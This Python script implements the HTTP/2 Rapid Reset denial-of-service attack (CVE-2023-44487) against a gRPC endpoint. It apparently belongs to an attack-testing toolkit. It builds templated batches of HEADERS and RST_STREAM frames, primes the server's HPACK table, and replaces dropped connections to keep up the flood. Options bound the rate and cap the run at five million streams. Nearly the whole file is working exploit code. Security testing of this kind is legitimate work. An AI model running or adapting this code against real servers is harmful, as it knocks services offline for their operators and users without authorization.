"""Rapid reset (CVE-2023-44487): HEADERS opening a call, then RST_STREAM at once, over and over.

Each connection sends batches of --batch HEADERS+RST_STREAM pairs; a connection the server closes
or stops reading is replaced by a new one, as a real attacker would. --rate bounds the streams per
second per connection; --max-streams bounds the total.
"""
import struct
import time

import attack
import grpc_wire
import h2frames as f


def pairs(block, first_stream, count):
    """count HEADERS+RST_STREAM pairs for consecutive client streams, from one template."""
    pair = f.headers(0, block) + f.rst_stream(0, f.CANCEL)
    burst = bytearray(pair * count)
    rst_stream_field = len(pair) - 13 + 5
    for i in range(count):
        base = i * len(pair)
        struct.pack_into(">I", burst, base + 5, first_stream + 2 * i)
        struct.pack_into(">I", burst, base + rst_stream_field, first_stream + 2 * i)
    return bytes(burst)


class Resetter:
    """One connection's attack: the first call fills the server's HPACK table, after which every
    request is the same few index bytes, so a batch is one template with stream ids filled in."""

    def __init__(self, connection, path):
        self.connection = connection
        encoder = grpc_wire.new_encoder()
        first = grpc_wire.encode_request(encoder, connection.authority, path)
        self.block = grpc_wire.encode_request(encoder, connection.authority, path)
        self.next_stream = 3
        self.ready = connection.start() and connection.send(f.headers(1, first) + f.rst_stream(1, f.CANCEL))

    def burst(self, count):
        sent = self.connection.send(pairs(self.block, self.next_stream, count))
        self.next_stream += 2 * count
        return sent


def main():
    p = attack.parser(__doc__, duration=3.0, connections=2, rate_help="streams opened and reset per second per connection (0 = as fast as possible)")
    p.add_argument("--batch", type=int, default=100, help="HEADERS+RST_STREAM pairs per write [100]")
    p.add_argument("--max-streams", type=int, default=5_000_000, help="stop after this many streams in all [5000000]")
    p.add_argument("--path", default=grpc_wire.HEALTH_CHECK, help="method the calls open")
    args = p.parse_args()
    report = attack.Report("rapid-reset", args)
    resetters = [None] * args.connections
    started = time.monotonic()
    opened = 0
    while report.elapsed() < args.duration and opened < args.max_streams:
        for i, resetter in enumerate(resetters):
            if resetter is None or not resetter.connection.usable:
                if resetter is not None:
                    resetter.connection.close()
                    report.sent["reconnects"] += 1
                connection = attack.connect(args.target, report)
                resetters[i] = resetter = Resetter(connection, args.path) if connection else None
                if resetter is None or not resetter.ready:
                    time.sleep(0.05)
                    continue
                opened += 1
            if resetter.burst(args.batch):
                opened += args.batch
            resetter.connection.drain()
        attack.pace(args.rate * args.connections, started, opened)
    report.sent["streams opened and reset"] = opened
    for resetter in resetters:
        if resetter is not None:
            resetter.connection.drain()
            resetter.connection.close()
    report.finish()


if __name__ == "__main__":
    main()
